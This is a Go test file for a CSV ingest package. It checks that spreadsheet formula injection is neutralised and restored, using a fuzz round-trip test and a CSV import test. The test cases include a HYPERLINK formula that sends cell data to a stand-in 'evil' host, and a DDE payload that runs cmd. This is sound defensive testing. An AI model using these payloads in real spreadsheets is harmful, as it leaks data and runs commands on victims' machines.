package ingest

import (
	"strings"
	"testing"
)

func TestNeutraliseFormula(t *testing.T) {
	for _, tt := range []struct{ in, out string }{
		{`=HYPERLINK("http://evil/?"&A1,"click")`, `'=HYPERLINK("http://evil/?"&A1,"click")`},
		{`+cmd|' /C calc'!A0`, `'+cmd|' /C calc'!A0`},
		{"-2+3", "'-2+3"},
		{"@SUM(A1)", "'@SUM(A1)"},
		{"\tx", "'\tx"},
		{"\rx", "'\rx"},
		{"'=already quoted", "''=already quoted"},
		{"''+two", "'''+two"},
		{"'plain quote", "'plain quote"},
		{"plain", "plain"},
		{"a=b", "a=b"},
		{"", ""},
		{"'", "'"},
	} {
		if got := NeutraliseFormula(tt.in); got != tt.out {
			t.Errorf("NeutraliseFormula(%q) = %q, want %q", tt.in, got, tt.out)
		}
		if got := RestoreFormula(tt.out); got != tt.in {
			t.Errorf("RestoreFormula(%q) = %q, want %q", tt.out, got, tt.in)
		}
	}
}

// Export then import gives every value back, and no exported cell starts
// with a formula character.
func FuzzFormulaRoundTrip(f *testing.F) {
	for _, s := range []string{"=1+1", "'=1", "''@x", "-", "'", "plain", "\t", "+"} {
		f.Add(s)
	}
	f.Fuzz(func(t *testing.T, s string) {
		cell := NeutraliseFormula(s)
		if cell != "" && strings.ContainsRune("=+-@\t\r", rune(cell[0])) {
			t.Errorf("NeutraliseFormula(%q) = %q starts with a formula character", s, cell)
		}
		if got := RestoreFormula(cell); got != s {
			t.Errorf("RestoreFormula(NeutraliseFormula(%q)) = %q", s, got)
		}
	})
}

// A CSV import reads a neutralised cell as its value.
func TestImportRestoresNeutralisedCells(t *testing.T) {
	rr, err := NewRiskReader("r.csv", strings.NewReader("key,title,description\nR-1,\"'=HYPERLINK(\"\"x\"\")\",'''@here\n"))
	if err != nil {
		t.Fatal(err)
	}
	row, err := rr.Next()
	if err != nil {
		t.Fatal(err)
	}
	if row.Risk.Title != `=HYPERLINK("x")` || row.Risk.Description != "''@here" {
		t.Errorf("row = %+v", row.Risk)
	}
}
